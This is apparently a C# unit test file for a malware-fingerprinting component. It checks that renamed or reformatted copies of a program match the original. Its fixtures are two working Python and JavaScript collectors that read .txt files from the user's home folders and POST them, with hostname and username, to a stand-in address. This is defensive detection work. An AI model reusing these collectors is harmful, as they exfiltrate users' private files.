using Wellguard.Programs;
using Xunit;

namespace Wellguard.Tests.Programs;

/// <summary>What stays the same when an author changes a program from copy to copy. The programs are made up; they collect names of files.</summary>
public sealed class CodeFingerprintTests
{
    public const string Python = """
        import os, json, platform
        from urllib.request import Request, urlopen

        FOLDERS = ["Documents", "Desktop", "Pictures"]

        class Collector:
            def __init__(self, root, limit=100):
                self.root = root
                self.limit = limit
                self.found = []

            def walk(self, folder):
                for entry in os.scandir(folder):
                    if entry.is_dir():
                        self.walk(entry.path)
                    elif entry.name.endswith(".txt") and len(self.found) < self.limit:
                        with open(entry.path, "rb") as handle:
                            self.found.append({"name": entry.name, "size": entry.stat().st_size, "head": handle.read(64).hex()})

            def send(self, address):
                body = json.dumps({"host": platform.node(), "files": self.found}).encode()
                request = Request(address, data=body, headers={"Content-Type": "application/json"})
                try:
                    return urlopen(request, timeout=5).status == 200
                except OSError as problem:
                    print("failed", problem)
                    return False

        def main():
            collector = Collector(os.path.expanduser("~"))
            for name in FOLDERS:
                collector.walk(os.path.join(collector.root, name))
            collector.send("http://192.0.2.7/collect")

        main()
        """;

    public const string JavaScript = """
        const os = require('os'), fs = require('fs'), path = require('path');
        const https = require('https');

        function collect(root, depth) {
          const found = [];
          for (const entry of fs.readdirSync(root, { withFileTypes: true })) {
            const full = path.join(root, entry.name);
            if (entry.isDirectory() && depth > 0) {
              found.push(...collect(full, depth - 1));
            } else if (/\.txt$/.test(entry.name)) {
              found.push({ name: entry.name, size: fs.statSync(full).size, head: fs.readFileSync(full).slice(0, 64).toString('hex') });
            }
          }
          return found;
        }

        function send(list) {
          const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, files: list });
          const request = https.request({ hostname: '192.0.2.7', path: '/collect', method: 'POST', headers: { 'Content-Length': body.length } }, answer => {
            answer.on('data', chunk => console.log(chunk.toString()));
            answer.on('end', () => process.exit(0));
          });
          request.on('error', () => process.exit(1));
          request.write(body);
          request.end();
        }

        setTimeout(() => send(collect(os.homedir(), 3)), 1000);
        """;

    public static TheoryData<string, string, string> Copies => new()
    {
        { "python, blanks and comments", "python", Python.Replace("    ", "  ", StringComparison.Ordinal).Replace("\n", "   # x\r\n\r\n", StringComparison.Ordinal) },
        { "python, texts and numbers", "python", Python.Replace("http://192.0.2.7/collect", "https://other.example/x?y=" + new string('z', 400), StringComparison.Ordinal).Replace("\"Documents\", \"Desktop\", \"Pictures\"", "'a' + 'b', \"c\"", StringComparison.Ordinal).Replace("100", "0x7f", StringComparison.Ordinal).Replace("\"failed\"", "'no luck' + '!'", StringComparison.Ordinal) },
        { "python, names", "python", Renamed(Python, "FOLDERS", "Collector", "root", "limit", "found", "walk", "folder", "entry", "handle", "send", "address", "body", "problem", "main", "collector") },
        { "javascript, blanks and comments", "javascript", JavaScript.Replace("\n", " // x\n/* y\n z */\n", StringComparison.Ordinal) },
        { "javascript, names, texts and words of declaration", "javascript", Renamed(JavaScript, "collect", "depth", "found", "entry", "full", "send", "list", "body", "request", "answer", "chunk").Replace("const ", "var ", StringComparison.Ordinal).Replace("'192.0.2.7'", "\"198.51.100.\" + \"9\"", StringComparison.Ordinal) },
    };

    [Theory]
    [MemberData(nameof(Copies))]
    public void A_copy_with_other_names_texts_and_blanks_has_the_same_fingerprint(string what, string language, string copy)
    {
        var share = Share(Of(language, language == "python" ? Python : JavaScript), Of(language, copy));
        Assert.True(share >= 0.9, $"{what}: {share}");
    }

    [Fact]
    public void Other_code_has_another_fingerprint()
    {
        const string Other = "import csv, sys\n\ndef total(rows, column, start=0):\n    amount = start\n    for number, row in enumerate(rows):\n        if column not in row:\n            raise KeyError(column)\n        amount += float(row[column].replace(',', '.'))\n        if number % 1000 == 0:\n            sys.stderr.write('.')\n    return amount\n\nwith open(sys.argv[1], newline='') as table:\n    reader = csv.DictReader(table, delimiter=';')\n    lines = sorted(reader, key=lambda line: line['date'])\n    print('%.2f' % total(lines, sys.argv[2]))\n    for group in set(line['kind'] for line in lines):\n        print(group, total([line for line in lines if line['kind'] == group], sys.argv[2]))\n";
        Assert.True(Of("python", Other).Length >= CodeFingerprint.Fewest);
        Assert.True(Share(Of("python", Python), Of("python", Other)) < 0.1);
        Assert.True(Share(Of("python", Other), Of("javascript", JavaScript)) < 0.1);
    }

    [Fact]
    public void Code_behind_other_code_is_still_there() => Assert.Equal(1, Share(Of("python", Python), Of("python", "import re\n\ndef upper(text):\n    return re.sub('a', lambda m: m.group(0).upper(), text)\n\n\n" + Python)), 0.05);

    [Theory]
    [InlineData("python", "")]
    [InlineData("python", "from .core import main\n\n__version__ = '1.0'\n__all__ = ['main']\n")]
    [InlineData("python", "from setuptools import setup, find_packages\n\nsetup(name='x', version='1.0', packages=find_packages(), author='a', url='u', license='MIT', python_requires='>=3.6', install_requires=['requests'])\n")]
    [InlineData("javascript", "module.exports = require('./lib/index.js');\n")]
    [InlineData("brainfuck", "+++[>+++<-]")]
    public void Boilerplate_has_none(string language, string text) => Assert.Empty(Of(language, text));

    [Fact]
    public void Tables_of_numbers_and_texts_have_none() => Assert.Empty(Of("python", "TABLE = [" + string.Join(", ", Enumerable.Range(0, 20_000).Select(static i => $"(0x{i:x}, 'name{i}')")) + "]\n"));

    [Theory]
    [InlineData("(")]
    [InlineData("a.b.")]
    [InlineData("{[")]
    [InlineData("'\\")]
    [InlineData("`${")]
    [InlineData("\ud800")]
    public void Hostile_text_takes_no_time(string part)
    {
        var clock = System.Diagnostics.Stopwatch.StartNew();
        foreach (var language in (string[])["python", "javascript", "php", "perl", "ruby"])
        {
            Of(language, string.Concat(Enumerable.Repeat(part, CodeFingerprint.LongestFile / part.Length)));
        }

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), clock.Elapsed.ToString());
    }

    internal static uint[] Of(string language, string text) => CodeFingerprint.Of(language, "x", text);

    /// <summary>Of the first what the second has.</summary>
    private static double Share(uint[] one, uint[] other) => (double)one.Intersect(other).Count() / one.Length;

    internal static string Renamed(string text, params string[] names) =>
        System.Text.RegularExpressions.Regex.Replace(text, @"\b(?:" + string.Join('|', names) + @")\b", match => "q" + Array.IndexOf(names, match.Value) + "z", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(5));
}
